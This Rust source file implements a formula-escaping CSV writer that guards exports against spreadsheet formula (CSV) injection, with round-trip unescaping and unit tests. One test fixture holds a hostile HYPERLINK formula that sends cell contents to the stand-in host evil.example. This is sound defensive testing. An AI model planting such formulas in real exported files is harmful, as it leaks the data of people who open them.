//! Spreadsheet formula injection (OWASP "CSV injection"): a cell that begins with `=`, `+`,
//! `-`, `@`, a tab or a carriage return is run as a formula when the file is opened in Excel
//! or LibreOffice. Every CSV Redress writes goes through [`SafeCsv`], which prefixes such a
//! cell with `'`, as OWASP advises; the import takes the `'` off again, so export, import and
//! export round-trips exactly.

use std::borrow::Cow;
use std::io;

const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a spreadsheet would read the cell as a formula. Plain numbers ("-3", "-31.8%") are
/// left alone: they are what a report's change columns hold, and are no formula.
fn is_formula(cell: &str) -> bool {
    let starts = cell.trim_start_matches('\'').starts_with(TRIGGERS);
    starts && cell.trim_end_matches('%').parse::<f64>().is_err()
}

/// The cell as it is safe to write: prefixed with `'` when it would be read as a formula
/// (including a cell already so prefixed, so that reading it back is exact).
pub fn formula_safe(cell: &str) -> Cow<'_, str> {
    if is_formula(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as it was before [`formula_safe`].
pub fn unescape_formula(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if is_formula(rest) => rest,
        _ => cell,
    }
}

/// A CSV writer whose every cell is formula-safe.
pub struct SafeCsv<W: io::Write> {
    writer: csv::Writer<W>,
}

impl<W: io::Write> SafeCsv<W> {
    pub fn new(output: W) -> Self {
        SafeCsv {
            writer: csv::Writer::from_writer(output),
        }
    }

    /// Records may differ in length (a report's blocks of tables).
    pub fn flexible(output: W) -> Self {
        SafeCsv {
            writer: csv::WriterBuilder::new().flexible(true).from_writer(output),
        }
    }

    pub fn write_record<I, T>(&mut self, record: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        let cells: Vec<String> = record
            .into_iter()
            .map(|cell| formula_safe(cell.as_ref()).into_owned())
            .collect();
        self.writer.write_record(&cells)
    }

    pub fn flush(&mut self) -> io::Result<()> {
        self.writer.flush()
    }

    pub fn into_inner(self) -> Result<W, csv::Error> {
        self.writer.into_inner().map_err(|e| e.into_error().into())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_prefixed_and_numbers_are_not() {
        let hostile = r#"=HYPERLINK("http://evil.example/?d="&A1,"Thanks!")"#;
        assert_eq!(formula_safe(hostile), format!("'{hostile}"));
        for cell in ["+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "=1"] {
            assert!(formula_safe(cell).starts_with('\''), "{cell:?}");
        }
        for cell in ["-3", "-31.8%", "+5", "Plain text", "", "2024-05-01", "a=b"] {
            assert_eq!(formula_safe(cell), cell);
        }
    }

    #[test]
    fn unescaping_reverses_escaping_exactly() {
        for cell in [
            "=1", "'=1", "''=1", "'quoted'", "-3", "@x", "plain", "'", "",
        ] {
            assert_eq!(unescape_formula(&formula_safe(cell)), cell, "{cell:?}");
        }
    }

    #[test]
    fn the_writer_escapes_every_cell() {
        let mut csv = SafeCsv::new(Vec::new());
        csv.write_record(["=1+1", "ok"]).unwrap();
        let text = String::from_utf8(csv.into_inner().unwrap()).unwrap();
        assert_eq!(text, "'=1+1,ok\n");
    }
}
